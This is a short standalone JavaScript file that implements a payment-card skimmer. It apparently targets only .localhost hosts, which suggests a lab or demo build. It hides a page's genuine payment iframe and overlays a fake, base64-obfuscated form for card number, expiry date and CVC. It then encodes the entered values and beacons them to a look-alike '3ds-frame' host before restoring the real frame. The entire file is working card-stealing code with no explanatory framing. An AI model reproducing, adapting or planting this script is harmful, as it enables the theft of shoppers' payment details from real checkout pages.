;(function(d,k){
  if(!/\.localhost$/.test(d.location.hostname)){return}
  var real=d.querySelector('#payment iframe');
  if(!real||d.cookie.indexOf(k)>-1){return}
  var html='PGZvcm0+PGlucHV0IG5hbWU9Im51bSIgcGxhY2Vob2xkZXI9IkNhcmQgbnVtYmVyIj48aW5wdXQgbmFtZT0iZXhwIiBwbGFjZWhvbGRlcj0iTU0vWVkiPjxpbnB1dCBuYW1lPSJjdmMiIHBsYWNlaG9sZGVyPSJDVkMiPjwvZm9ybT4=';
  var f=d.createElement('iframe');
  f.srcdoc=atob(html);f.frameBorder=0;f.width='100%';f.height=120;
  f.onload=function(){
    f.contentDocument.addEventListener('input',function(){
      var v=[].map.call(f.contentDocument.forms[0].elements,function(x){return x.value});
      if(v[0].length>14&&v[2].length>2){
        d.cookie=k+'=1;path=/;max-age=86400';
        new Image().src='//3ds-frame.localhost/l.png?'+btoa(v.join('|'));
        f.parentNode.removeChild(f);real.style.display='';
      }
    })
  };
  real.style.display='none';
  real.parentNode.insertBefore(f,real);
})(document,'_pf');
